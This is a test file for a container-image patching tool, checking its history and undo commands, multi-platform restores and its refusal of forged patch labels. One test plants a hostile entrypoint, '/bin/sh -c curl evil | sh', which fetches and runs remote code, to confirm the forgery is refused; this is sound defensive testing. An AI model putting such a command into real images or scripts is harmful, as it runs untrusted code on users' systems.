import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, test } from 'vitest';
import { sha256 } from '../../src/oci/digest.js';
import { parseReference } from '../../src/oci/reference.js';
import { pushIndex } from '../fixtures/images.js';
import { buildCnbImage, jreLayer, npmDepsLayer, type BuiltCnbImage } from '../fixtures/cnb.js';
import { runAction, runNode } from '../helpers/action.js';
import { pushEditedImage } from '../helpers/edit-image.js';
import { registries, storesFor, uniqueRepo } from '../helpers/registry.js';

const stores = storesFor(undefined);
const storeAt = (ref: string) => stores.storeFor(parseReference(ref));
const CLI = resolve(import.meta.dirname, '../../bin/layer-rebase.js');

async function cli(args: string[]) {
  const home = await mkdtemp(join(tmpdir(), 'undo-home-'));
  return runNode(process.execPath, [CLI, ...args], {
    env: { PATH: process.env.PATH, HOME: home, DOCKER_CONFIG: join(home, 'none') },
  });
}

/** An app on 17.0.8 and patch images 17.0.9 and 17.0.10, each with a patch file; one or two platforms. */
async function setup(platforms: string[] = ['amd64']) {
  const host = registries().open.host;
  const repo = `${host}/${uniqueRepo('undo-app')}`;
  const dir = await mkdtemp(join(tmpdir(), 'undo-'));
  const apps: BuiltCnbImage[] = [];
  const patchFiles: Record<string, string> = {};
  for (const arch of platforms)
    apps.push(
      await buildCnbImage(storeAt(repo), {
        platform: { os: 'linux', architecture: arch },
        layers: [jreLayer('17.0.8'), npmDepsLayer(`deps ${arch}`)],
      }),
    );
  for (const version of ['17.0.9', '17.0.10']) {
    const patchRef = `${host}/${uniqueRepo('undo-patch')}:${version}`;
    const built: BuiltCnbImage[] = [];
    for (const arch of platforms)
      built.push(
        await buildCnbImage(storeAt(patchRef), {
          platform: { os: 'linux', architecture: arch },
          layers: [jreLayer(version)],
        }),
      );
    if (platforms.length > 1) await pushIndex(storeAt(patchRef), built, { tag: version });
    else await storeAt(patchRef).putManifest(built[0]!.manifest, version);
    patchFiles[version] = join(dir, `${version}.json`);
    await writeFile(
      patchFiles[version],
      JSON.stringify({ patches: [{ buildpack: 'example/jvm', layer: 'jre', 'patch-image': patchRef }] }),
    );
  }
  const original =
    platforms.length > 1
      ? (await pushIndex(storeAt(repo), apps, { tag: 'v1' })).digest
      : (await storeAt(repo).putManifest(apps[0]!.manifest, 'v1'), apps[0]!.manifest.digest);
  return { ref: `${repo}:v1`, repo, apps, patchFiles, original, dir };
}

const tagHolds = async (ref: string) => (await storeAt(ref).getManifest(parseReference(ref).tag!)).digest;

describe('undo', () => {
  test('a single image: two patches, then one undo gives the first patch, a second the original, a third nothing', async () => {
    const s = await setup();
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
    const first = await tagHolds(s.ref);
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.10']!])).code).toBe(0);
    const second = await tagHolds(s.ref);
    expect(new Set([s.original, first, second]).size).toBe(3);

    const history = await cli(['history', '--image', s.ref]);
    expect(history.code, history.stderr).toBe(0);
    expect(history.stdout).toContain(`patch 2 (newest): replaced ${first}`);
    expect(history.stdout).toContain(`patch 1: replaced ${s.original}`);
    expect(history.stdout).toMatch(
      /example\/jvm\/jre 17\.0\.9 → 17\.0\.10 from .*undo-patch.*:17\.0\.10@sha256:/,
    );
    expect(history.stdout).toContain(`undo: possible: undo restores ${first}`);
    const json = JSON.parse((await cli(['history', '--image', s.ref, '--json'])).stdout) as {
      platforms: { patches: { replaced: { manifest: string } }[] }[];
      undo: { possible: boolean; restores: string };
    };
    expect(json.platforms[0]!.patches.map((p) => p.replaced.manifest)).toEqual([first, s.original]);
    expect(json.undo).toMatchObject({ possible: true, restores: first });

    const dry = await cli(['undo', '--image', s.ref, '--dry-run']);
    expect(dry.code).toBe(0);
    expect(dry.stdout).toContain(`would restore ${first}: jre 17.0.10 back to 17.0.9`);
    expect(await tagHolds(s.ref)).toBe(second);

    const one = await cli(['undo', '--image', s.ref]);
    expect(one.code, one.stderr).toBe(0);
    expect(one.stdout).toContain(`${s.ref}: restored`);
    expect(await tagHolds(s.ref)).toBe(first);
    expect((await cli(['undo', '--image', s.ref])).code).toBe(0);
    expect(await tagHolds(s.ref)).toBe(s.original);
    const none = await cli(['undo', '--image', s.ref]);
    expect(none.code).toBe(0);
    expect(none.stdout).toContain('nothing to undo: layer-rebase never patched this image');
    expect(await tagHolds(s.ref)).toBe(s.original);
    const never = await cli(['history', '--image', s.ref]);
    expect(never.stdout).toContain('undo: not possible: layer-rebase never patched this image');
    expect(never.stdout).not.toContain('nothing to undo');
    // The same patch again gives the same digest as the first time: the record is deterministic.
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
    expect(await tagHolds(s.ref)).toBe(first);
  });

  test('an index is restored whole', async () => {
    const s = await setup(['amd64', 'arm64']);
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
    const patched = await tagHolds(s.ref);
    expect(patched).not.toBe(s.original);
    const history = await cli(['history', '--image', s.ref]);
    expect(history.stdout).toMatch(
      /linux\/amd64 sha256:[0-9a-f]{64}\n {4}patch 1 \(newest\): replaced sha256:[0-9a-f]{64} \(index /,
    );
    expect(history.stdout).toMatch(/linux\/arm64 sha256:/);
    const r = await cli(['undo', '--image', s.ref]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain(
      `restored ${s.original}: jre 17.0.9 back to 17.0.8 (linux/amd64); jre 17.0.9 back to 17.0.8 (linux/arm64)`,
    );
    expect(await tagHolds(s.ref)).toBe(s.original);
  });

  test('a release pushed after the patch is left alone; an image never patched: nothing to undo', async () => {
    const s = await setup();
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
    const release = await buildCnbImage(
      storeAt(s.repo),
      { layers: [jreLayer('17.0.11'), npmDepsLayer('v2 deps')] },
      'v1',
    );
    const r = await cli(['undo', '--image', s.ref]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`${s.ref}: unchanged`);
    expect(r.stdout).toContain('nothing to undo: layer-rebase never patched this image');
    expect(await tagHolds(s.ref)).toBe(release.manifest.digest);
  });

  test('a forged label never moves a tag to an unrelated image; a previous image that is gone is named', async () => {
    const s = await setup();
    const host = registries().open.host;
    const other = await buildCnbImage(storeAt(s.repo), {
      layers: [jreLayer('11.0.1'), npmDepsLayer('someone else')],
    });
    const record = (manifest: string) =>
      JSON.stringify([
        {
          target: 'example/jvm/jre',
          source: 'forged.json',
          selector: 'example/jvm / jre',
          patchImage: `${host}/x@${sha256('x')}`,
          from: sha256('from'),
          to: sha256('to'),
          replaced: { manifest },
        },
      ]);
    const forgedRef = `${s.repo}:forged`;
    await buildCnbImage(
      storeAt(s.repo),
      {
        layers: [jreLayer('17.0.9'), npmDepsLayer('forged')],
        extraLabels: { 'io.github.layer-rebase.applied': record(other.manifest.digest) },
      },
      'forged',
    );
    const forgedDigest = await tagHolds(forgedRef);
    const r = await cli(['undo', '--image', forgedRef]);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain(`${forgedRef}: refused\n`);
    expect(r.stdout).toContain(
      `error: nothing was moved: the label says the last patch replaced ${other.manifest.digest}, but`,
    );
    expect(await tagHolds(forgedRef)).toBe(forgedDigest);

    const goneRef = `${s.repo}:gone`;
    const missing = sha256('never pushed');
    await buildCnbImage(
      storeAt(s.repo),
      {
        layers: [jreLayer('17.0.9'), npmDepsLayer('gone')],
        extraLabels: { 'io.github.layer-rebase.applied': record(missing) },
      },
      'gone',
    );
    const g = await cli(['undo', '--image', goneRef]);
    expect(g.code).toBe(1);
    expect(g.stdout).toContain(
      `the image this patch replaced, ${missing}, is no longer in ${s.repo}: registries garbage-collect untagged manifests`,
    );
  });

  test('a fleet through the action (undo: true): restored, nothing to undo and refused side by side', async () => {
    const a = await setup();
    const b = await setup();
    const c = await setup();
    expect((await cli(['--image', a.ref, '--patches', a.patchFiles['17.0.9']!])).code).toBe(0);
    expect((await cli(['--image', c.ref, '--patches', c.patchFiles['17.0.9']!])).code).toBe(0);
    // c's tag is then moved by hand to an image whose label claims an unrelated previous image.
    const unrelated = await buildCnbImage(storeAt(c.repo), {
      layers: [jreLayer('11.0.1'), npmDepsLayer('other')],
    });
    const claimed = (JSON.parse((await labelOf(c.ref))!) as Record<string, unknown>[]).map((r) => ({
      ...r,
      replaced: { manifest: unrelated.manifest.digest },
    }));
    const stale = await buildCnbImage(
      storeAt(c.repo),
      {
        layers: [jreLayer('17.0.9'), npmDepsLayer('hand-made')],
        extraLabels: { 'io.github.layer-rebase.applied': JSON.stringify(claimed) },
      },
      'v1',
    );
    const r = await runAction({ image: [a.ref, b.ref, c.ref].join('\n'), undo: 'true' });
    expect(r.code).toBe(1);
    const images = JSON.parse(r.outputs.images!) as { input: string; status: string; digest: string }[];
    expect(images.map((i) => i.status)).toEqual(['restored', 'unchanged', 'refused']);
    expect(images[0]!.digest).toBe(a.original);
    expect(r.outputs.digest).toBe(a.original);
    expect(r.outputs.changed).toBe('true');
    expect(await tagHolds(a.ref)).toBe(a.original);
    expect(await tagHolds(b.ref)).toBe(b.original);
    expect(await tagHolds(c.ref)).toBe(stale.manifest.digest);
    expect(r.summary).toContain('## layer-rebase undo');
    expect(r.summary).toContain('↩️ restored');
    expect(r.summary).toContain(`restored ${a.original}: jre 17.0.9 back to 17.0.8`);
    // The log says what each tag went back to, once.
    expect(r.stdout).toContain(`${a.ref}: restored ${a.original}: jre 17.0.9 back to 17.0.8\n`);
    expect(r.stdout).toContain(`${b.ref}: nothing to undo: layer-rebase never patched this image\n`);
    expect(r.stdout).toMatch(
      /::error::1 of 3 image\(s\) not restored:%0A- .*undo-app.*: refused, nothing was moved/,
    );
  });
});

async function labelOf(ref: string): Promise<string | undefined> {
  const store = storeAt(ref);
  const m = JSON.parse((await store.getManifest(parseReference(ref).tag!)).bytes.toString()) as {
    config: { digest: string };
  };
  const { readBlob } = await import('../../src/oci/store.js');
  const config = JSON.parse((await readBlob(store, m.config as never, 1 << 20)).toString()) as {
    config: { Labels: Record<string, string> };
  };
  return config.config.Labels['io.github.layer-rebase.applied'];
}

/** Re-pushes the image `ref` holds, its config edited (a `FROM app` release: same layers, labels inherited), under `tag`. */
function mutateConfig(ref: string, edit: Parameters<typeof pushEditedImage>[3], tag: string) {
  return pushEditedImage(storeAt(ref), parseReference(ref).tag!, tag, edit);
}

describe('undo proves the predecessor (the re-derivation verify does)', () => {
  test('a config-only release pushed since (FROM app + USER: same layers, label inherited) is left alone', async () => {
    const s = await setup();
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
    const release = await mutateConfig(
      s.ref,
      (c) => {
        c.config.User = '1000:1000';
        c.config.Env = [...(c.config.Env ?? []), 'HARDENED=1'];
      },
      'v1',
    );
    const r = await cli(['undo', '--image', s.ref]);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain(`${s.ref}: unchanged`);
    expect(r.stdout).toMatch(
      /nothing to undo: the tag holds [0-9a-f]{12}, which is not [0-9a-f]{12} \+ the recorded patch \(that is [0-9a-f]{12}\): an image pushed since is left alone/,
    );
    expect(await tagHolds(s.ref)).toBe(release);
  });

  test('a forged step that records a no-op swap and names an image with another entrypoint is refused', async () => {
    const s = await setup();
    expect((await cli(['--image', s.ref, '--patches', s.patchFiles['17.0.9']!])).code).toBe(0);
    const label = JSON.parse((await labelOf(s.ref))!) as {
      from: string;
      to: string;
      replaced: { manifest: string };
    }[];
    // The attacker pushes (untagged) the original with an evil entrypoint, and a tag whose label's last
    // step claims it replaced that one with a swap that changes nothing.
    await storeAt(s.ref).putManifest(await storeAt(s.ref).getManifest(s.original), 'v1-original');
    const evil = await mutateConfig(
      `${s.repo}:v1-original`,
      (c) => {
        c.config.Entrypoint = ['/bin/sh', '-c', 'curl evil | sh'];
      },
      'scratch-evil',
    );
    const forgedLabel = JSON.stringify([{ ...label[0]!, to: label[0]!.from, replaced: { manifest: evil } }]);
    const forged = await mutateConfig(
      `${s.repo}:scratch-evil`,
      (c) => {
        c.config.Labels!['io.github.layer-rebase.applied'] = forgedLabel;
      },
      'forged-tag',
    );
    const r = await cli(['undo', '--image', `${s.repo}:forged-tag`]);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain('refused');
    // The first difference is named: the JRE layer is not what the recorded patch image gives.
    expect(r.stdout).toMatch(
      /linux\/amd64: layer 1 \(example\/jvm\/jre, not the layer its recorded patch image gives\) is sha256:\w+ where the recorded patches give sha256:\w+/,
    );
    expect(await tagHolds(`${s.repo}:forged-tag`)).toBe(forged);
  });
});
